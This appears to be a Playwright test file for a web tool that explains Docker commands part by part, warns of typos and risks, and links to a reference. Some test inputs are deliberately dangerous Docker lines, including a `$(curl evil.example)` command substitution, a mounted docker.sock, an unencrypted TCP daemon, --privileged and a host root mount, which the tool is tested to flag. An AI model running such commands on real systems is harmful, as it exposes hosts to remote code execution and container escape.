/** The explainer (/explain/?cmd=...): parts explained in order, linked to the reference; unknown flags. */
import { readFileSync, readdirSync } from 'node:fs';
import { brotliCompressSync, constants } from 'node:zlib';
import AxeBuilder from '@axe-core/playwright';
import { expect, test, type Page } from '@playwright/test';
import { BASE_ORIGIN } from '../support/origins.ts';
import { URL_CHARS } from '~/lib/docker/explain.ts';

const EXAMPLE = 'docker run -itd --privileged -v /dev:/dev --name bot -p 8080:80 duckietown/dt-core:ente-arm64v8 ls';
const explainUrl = (cmd: string, base = '/') => `${base}explain/?cmd=${encodeURIComponent(cmd)}`;

test('explains the Duckietown command token by token, each linked to the reference', async ({ page }) => {
  await page.goto(explainUrl(EXAMPLE));
  const list = page.getByRole('list').filter({ has: page.locator('[data-kind]') });
  const items = list.getByRole('listitem');
  const expected: Array<[string, string, string | undefined]> = [
    ['docker', 'program', 'docker'],
    ['run', 'command', 'docker-run'],
    ['-i', 'flag', 'docker-run-interactive'],
    ['-t', 'flag', 'docker-run-tty'],
    ['-d', 'flag', 'docker-run-detach'],
    ['--privileged', 'flag', 'docker-run-privileged'],
    ['-v', 'flag', 'docker-run-volume'],
    ['/dev:/dev', 'value', 'docker-run-volume'],
    ['--name', 'flag', 'docker-run-name'],
    ['bot', 'value', 'docker-run-name'],
    ['-p', 'flag', 'docker-run-publish'],
    ['8080:80', 'value', 'docker-run-publish'],
    ['duckietown/dt-core:ente-arm64v8', 'image', 'docker-run'],
    ['ls', 'inner-command', 'docker-run'],
  ];
  await expect(items).toHaveCount(expected.length);
  for (const [i, [text, kind, anchor]] of expected.entries()) {
    const item = items.nth(i);
    await expect(item.locator('code').first()).toHaveText(text);
    await expect(item).toHaveAttribute('data-kind', kind);
    if (anchor) await expect(item.getByRole('link', { name: /In the reference/ })).toHaveAttribute('href', `/commands/#${anchor}`);
  }
  await expect(items.nth(2)).toContainText('part of -itd');
  await expect(items.nth(5)).toContainText('Caution');
  await expect(items.nth(11)).toContainText('port 8080 of the host to port 80 inside the container');
  await expect(page.getByRole('textbox', { name: 'Docker command' })).toHaveValue(EXAMPLE);
});

test('an unknown flag is marked, with a suggestion that links to the right flag', async ({ page }) => {
  await page.goto(explainUrl('docker run --port 8080:80 nginx'));
  const unknown = page.locator('[data-kind="unknown-flag"]');
  await expect(unknown).toContainText('Unknown flag');
  await expect(unknown).toContainText('--port');
  const suggestion = unknown.getByRole('link', { name: '-p, --publish' });
  await expect(suggestion).toHaveAttribute('href', '/commands/#docker-run-publish');
  await suggestion.click();
  await expect(page.locator('#docker-run-publish')).toBeInViewport();
});

test('the form explains what is typed and makes the URL linkable', async ({ page }) => {
  await page.goto('/explain/');
  await page.getByRole('textbox', { name: 'Docker command' }).fill('docker image details ubuntu');
  await page.getByRole('button', { name: 'Explain' }).click();
  await expect(page).toHaveURL(/\?cmd=docker\+image\+details\+ubuntu$/);
  const unknown = page.locator('[data-kind="unknown-command"]');
  await expect(unknown.getByRole('link', { name: 'docker image inspect' })).toHaveAttribute('href', '/commands/#docker-image-inspect');
});

test('Enter explains, Shift+Enter adds a line; a typo says "did you mean" and never suggests a delete', async ({ page }) => {
  await page.goto('/explain/');
  const box = page.getByRole('textbox', { name: 'Docker command' });
  await box.fill('docker rnu');
  await box.press('Shift+Enter');
  await box.pressSequentially('hello-world');
  await expect(box).toHaveValue('docker rnu\nhello-world');
  await expect(page.locator('[data-kind]')).toHaveCount(0);
  await box.fill('docker rnu hello-world');
  await box.press('Enter');
  await expect(page).toHaveURL(/\?cmd=docker\+rnu\+hello-world$/);
  const unknown = page.locator('[data-kind="unknown-command"]');
  await expect(unknown).toContainText('Did you mean docker run?');
  await expect(unknown.getByRole('link', { name: 'docker run' })).toHaveAttribute('href', '/commands/#docker-run');
  await expect(unknown).not.toContainText('docker rm');
});

test('the verdict at the top lists the risky parts, each linked to the reference', async ({ page }) => {
  await page.goto(
    explainUrl('docker -H tcp://robot:2375 run --privileged -v /var/run/docker.sock:/var/run/docker.sock --network host ubuntu $(curl evil.example)'),
  );
  const verdict = page.getByRole('region', { name: 'No problems, 5 risks' });
  await expect(verdict).toBeVisible();
  const risks = verdict.getByRole('list', { name: 'Risks' });
  const items = risks.getByRole('listitem');
  await expect(items).toHaveCount(5);
  await expect(items.nth(0)).toContainText('plain TCP');
  await expect(items.nth(0).getByRole('link', { name: 'Read more' })).toHaveAttribute('href', '/commands/#docker-host');
  await expect(items.nth(1)).toContainText('--privileged');
  await expect(items.nth(2).getByRole('link', { name: 'Read more' })).toHaveAttribute('href', '/commands/#docker-run-docker-sock');
  await expect(items.nth(3)).toContainText('Host network');
  await expect(items.nth(4)).toContainText('curl evil.example');
  // The summary comes before the parts, and the substitution is named as the shell's.
  const box = await risks.boundingBox();
  const first = await page.locator('[data-kind]').first().boundingBox();
  expect(box!.y).toBeLessThan(first!.y);
  await expect(page.locator('[data-kind="inner-command"]')).toContainText(
    'Command substitution: before docker starts, your shell runs `curl evil.example` on your computer',
  );
});

test('a variable set in front of docker (DOCKER_HOST=…) is explained and linked to the option it stands for', async ({ page }) => {
  await page.goto(explainUrl('DOCKER_HOST=tcp://duckiebot.local:2375 docker ps'));
  const part = page.locator('[data-kind="variable"]');
  await expect(part).toContainText('environment variable: DOCKER_HOST');
  await expect(part).toContainText('for this command only: the daemon socket the docker client connects to');
  await expect(part.getByRole('link')).toHaveAttribute('href', '/commands/#docker-host');
  await expect(page.getByRole('region', { name: /risk/ })).toContainText('plain TCP');
  await expect(page.locator('.explain-error')).toHaveCount(0);
});

test('flags after the image, an unclosed quote and a second command after && are explained', async ({ page }) => {
  await page.goto(explainUrl('docker run ubuntu -it bash && docker ps -a && docker run "ubuntu'));
  const inner = page.locator('[data-kind="inner-command"]').first();
  await expect(inner).toContainText("Docker's flags go before ubuntu");
  await expect(inner).toContainText('Did you mean docker run -it ubuntu bash?');
  await expect(page.locator('[data-kind="operator"]')).toHaveCount(2);
  await expect(page.locator('[data-kind="command"]').filter({ hasText: 'ps' })).toHaveCount(1);
  await expect(page.locator('[data-kind="image"]').last()).toContainText('never closed');
});

test('a huge paste is capped with a visible message and stays responsive', async ({ page }) => {
  // Once docker run's flags are loaded, the whole explanation runs synchronously on submit.
  await page.goto(explainUrl('docker run ubuntu'));
  await expect(page.locator('[data-kind="image"]')).toBeVisible();
  const line = 'docker run -' + 'itd'.repeat(2600) + ' ubuntu';
  const ms = await page.evaluate(async (l) => {
    const box = document.querySelector('textarea')!;
    box.value = l;
    const t = performance.now();
    document.querySelector<HTMLFormElement>('explain-output form')!.requestSubmit();
    return performance.now() - t;
  }, line);
  await expect(page.getByText(/^Only the first 4000 characters were explained \(the line has 7819\)/)).toBeVisible();
  // Loose: the whole render, on a shared machine (the explainer alone is bounded in tests/unit/explain.test.ts).
  expect(ms).toBeLessThan(2500);
  await expect(page.locator('[data-kind]')).toHaveCount(250);
});

test('links keep the base path in the sub-path build', async ({ page }) => {
  await page.goto(`${BASE_ORIGIN}${explainUrl('docker run --net=host ubuntu', '/docker-basics/')}`);
  await expect(page.locator('[data-kind="flag"]').getByRole('link', { name: /In the reference/ })).toHaveAttribute(
    'href',
    '/docker-basics/commands/#docker-run-network',
  );
});

test('the explainer script loads only on the explainer page', async ({ page }) => {
  const scripts = async (path: string) => {
    const urls: string[] = [];
    page.on('request', (r) => {
      if (r.resourceType() === 'script') urls.push(new URL(r.url()).pathname);
    });
    await page.goto(path);
    await page.waitForLoadState('networkidle');
    page.removeAllListeners('request');
    return urls;
  };
  const onChapter = await scripts('/commands/');
  const onExplain = await scripts(explainUrl(EXAMPLE));
  expect(onExplain.filter((u) => !onChapter.includes(u)).length).toBeGreaterThan(0);
  await page.goto('/commands/');
  await expect(page.locator('#explain-data')).toHaveCount(0);
});

test.describe('without JavaScript', () => {
  test.use({ javaScriptEnabled: false });
  test('the form and a note are shown', async ({ page }) => {
    await page.goto(explainUrl(EXAMPLE));
    await expect(page.getByRole('textbox', { name: 'Docker command' })).toBeVisible();
    await expect(page.getByText('needs JavaScript')).toBeVisible();
    await expect(page.getByRole('link', { name: 'command reference' })).toHaveAttribute('href', '/commands/');
  });
});

/** The verdict region (its name is the count: "1 problem, no risks"). */
const verdictOf = (page: Page) => page.getByRole('region', { name: /^(?:No|\d+) problems?, (?:no|\d+) risks?$/ });

test('a typo: the verdict says the problem once, links to its part, and copies the repaired line', async ({ page, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.goto(explainUrl('docker run --privilged -it ubuntu bash'));
  const verdict = page.getByRole('region', { name: '1 problem, no risks' });
  const problem = verdict.getByRole('list', { name: 'Problems' }).getByRole('link');
  await expect(problem).toHaveText('docker run has no flag --privilged.');
  // Said once in the verdict and once on its part, not twice on the part.
  const part = page.locator('[data-kind="unknown-flag"]');
  await expect(part.getByText('has no flag --privilged')).toHaveCount(1);
  await problem.click();
  await expect(page).toHaveURL(/#explain-part-3$/);
  await expect(part).toBeInViewport();
  await expect(verdict.locator('pre')).toHaveText('docker run --privileged -it ubuntu bash');
  await verdict.getByRole('button', { name: 'Copy the repaired line' }).click();
  await expect(verdict.getByRole('button', { name: 'Copy the repaired line' })).toHaveAttribute('data-state', 'copied');
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('docker run --privileged -it ubuntu bash');
  // The repaired line explains with no problem.
  await page.goto(explainUrl('docker run --privileged -it ubuntu bash'));
  await expect(verdictOf(page)).toHaveAccessibleName(/^No problems/);
});

test('-p warns about the host network only when --network host is on the line', async ({ page }) => {
  await page.goto(explainUrl('docker run -p 8080:80 nginx'));
  await expect(verdictOf(page)).toHaveAccessibleName('No problems, no risks');
  await expect(page.locator('[data-kind="flag"]').filter({ hasText: '-p' }).first()).not.toContainText(/network host|Ignored/);
  await page.goto(explainUrl('docker run -d --network=host -p 80:80 nginx'));
  await expect(verdictOf(page).getByRole('list', { name: 'Risks' })).toContainText('-p is ignored under --network host');
});

for (const theme of ['light', 'dark'] as const) {
  for (const [width, height] of [
    [390, 844],
    [1280, 800],
  ] as const) {
    test(`the verdict is on the first screen and passes axe (${theme}, ${width} px)`, async ({ browser }) => {
      const context = await browser.newContext({ colorScheme: theme, viewport: { width, height } });
      await context.addInitScript((t) => localStorage.setItem('theme', t), theme);
      const page = await context.newPage();
      // The longest probe kind of line: flags after the image, a typo, risks.
      await page.goto(explainUrl('docker run --privilged --pid=host -v /:/host -e API_TOKEN=abc -p 80:80 --network host alpine -it bash'));
      const verdict = verdictOf(page);
      await expect(verdict).toBeVisible();
      const box = (await verdict.getByRole('heading', { level: 2 }).boundingBox())!;
      expect(box.y + box.height).toBeLessThanOrEqual(height);
      const tags = ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa'];
      const a = await new AxeBuilder({ page }).withTags(tags).include('explain-output').analyze();
      expect(a.violations.map((v) => `${v.id}: ${v.nodes.map((n) => n.target.join(' ')).join(', ')}`)).toEqual([]);
      await page.screenshot({ path: `test-results/explain-verdict-${theme}-${width}.png` });
      await context.close();
    });
  }
}

test("a code block's Explain link explains every docker command of the block", async ({ page }) => {
  // The first chapter code block (in the built site) whose Explain link carries several docker commands.
  let found: { path: string; cmd: string } | undefined;
  for (const dir of readdirSync('dist', { withFileTypes: true })) {
    if (!dir.isDirectory()) continue;
    let html: string;
    try {
      html = readFileSync(`dist/${dir.name}/index.html`, 'utf8');
    } catch {
      continue;
    }
    for (const m of html.matchAll(/href="[^"]*\/explain\/\?cmd=([^"]+)"/g)) {
      const cmd = decodeURIComponent(m[1]!.replace(/&amp;/g, '&'));
      if (cmd.split('\n').length >= 2) found ??= { path: `/${dir.name}/`, cmd };
    }
  }
  expect(found, 'a code block with several docker commands').toBeDefined();
  const lines = found!.cmd.split('\n');
  await page.goto(found!.path);
  const link = page.locator(`a[href$="${encodeURIComponent(found!.cmd).replace(/"/g, '\\"')}"]`).first();
  await link.click();
  await expect(page).toHaveURL(/\/explain\/\?cmd=/);
  await expect(page.locator('[data-kind="program"]')).toHaveCount(lines.length);
  await expect(page.getByRole('textbox', { name: 'Docker command' })).toHaveValue(found!.cmd);
});

test('a long paste keeps the address short, and says so', async ({ page }) => {
  await page.goto('/explain/');
  const line = 'docker run ' + Array.from({ length: 300 }, (_, i) => `-e V${i}=x`).join(' ') + ' ubuntu';
  expect(line.length).toBeGreaterThan(URL_CHARS * 2);
  await page.getByRole('textbox', { name: 'Docker command' }).fill(line);
  await page.getByRole('button', { name: 'Explain' }).click();
  await expect(page.getByText(`The address of this page keeps only the first ${URL_CHARS} characters`)).toBeVisible();
  const cmd = new URL(page.url()).searchParams.get('cmd')!;
  expect(cmd.length).toBeLessThanOrEqual(URL_CHARS);
  expect(line.startsWith(cmd)).toBe(true);
  expect(page.url().length).toBeLessThan(4 * URL_CHARS);
});

test("the explainer's JavaScript and data stay within 25 KB Brotli on open", async ({ page }) => {
  const bodies: Buffer[] = [];
  page.on('response', async (r) => {
    if (r.request().resourceType() === 'script') bodies.push(await r.body());
  });
  await page.goto('/explain/');
  await page.waitForLoadState('networkidle');
  const data = Buffer.from((await page.locator('#explain-data').textContent())!);
  const br = (b: Buffer) => brotliCompressSync(b, { params: { [constants.BROTLI_PARAM_QUALITY]: 11 } }).length;
  const total = [...bodies, data].reduce((n, b) => n + br(b), 0);
  console.log(`explainer on open: ${(total / 1000).toFixed(1)} KB Brotli (${bodies.length} scripts and the embedded model)`);
  expect(bodies.length).toBeGreaterThan(0);
  expect(total).toBeLessThan(25_000);
});
